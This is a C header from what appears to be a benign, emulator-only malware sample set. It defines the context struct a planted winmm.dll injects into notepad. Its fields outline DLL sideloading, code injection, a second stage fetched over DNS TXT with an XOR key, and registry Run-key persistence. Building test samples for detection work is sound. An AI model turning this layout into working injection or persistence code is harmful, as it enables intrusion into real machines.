/*
 * remote.h - combo-apc-dns-x86: the context block the planted winmm.dll writes into notepad
 * beside the code it injects; the code's second stage gets it too (benign, emulator-only; see
 * ../../lineage-common/common.h).
 */
#ifndef COMBO_REMOTE_H
#define COMBO_REMOTE_H
#include <windows.h>
#include <windns.h>

struct remote_ctx {
    DWORD (WINAPI *pGetEnvironmentVariableA)(LPCSTR, LPSTR, DWORD);
    DNS_STATUS (WINAPI *pDnsQuery_A)(PCSTR, WORD, DWORD, PVOID, PDNS_RECORD *, PVOID *);
    VOID (WINAPI *pDnsRecordListFree)(PDNS_RECORD, DNS_FREE_TYPE);
    BOOL (WINAPI *pCryptStringToBinaryA)(LPCSTR, DWORD, DWORD, BYTE *, DWORD *, DWORD *, DWORD *);
    LPVOID (WINAPI *pVirtualAlloc)(LPVOID, SIZE_T, DWORD, DWORD);
    BOOL (WINAPI *pVirtualProtect)(LPVOID, SIZE_T, DWORD, PDWORD);
    HANDLE (WINAPI *pCreateThread)(LPSECURITY_ATTRIBUTES, SIZE_T, LPTHREAD_START_ROUTINE, LPVOID, DWORD, LPDWORD);
    DWORD (WINAPI *pWaitForSingleObject)(HANDLE, DWORD);
    LONG (WINAPI *pRegCreateKeyExA)(HKEY, LPCSTR, DWORD, LPSTR, DWORD, REGSAM, LPSECURITY_ATTRIBUTES, PHKEY, LPDWORD);
    LONG (WINAPI *pRegSetValueExA)(HKEY, LPCSTR, DWORD, DWORD, const BYTE *, DWORD);
    LONG (WINAPI *pRegCloseKey)(HKEY);
    DWORD key;              /* the TXT payload's 4-byte XOR key, little-endian */
    char marker_name[24];
    char marker_value[16];
    char dns_name[48];
    char run_key[64];
    char run_name[16];
    char run_value[96];
};
#endif
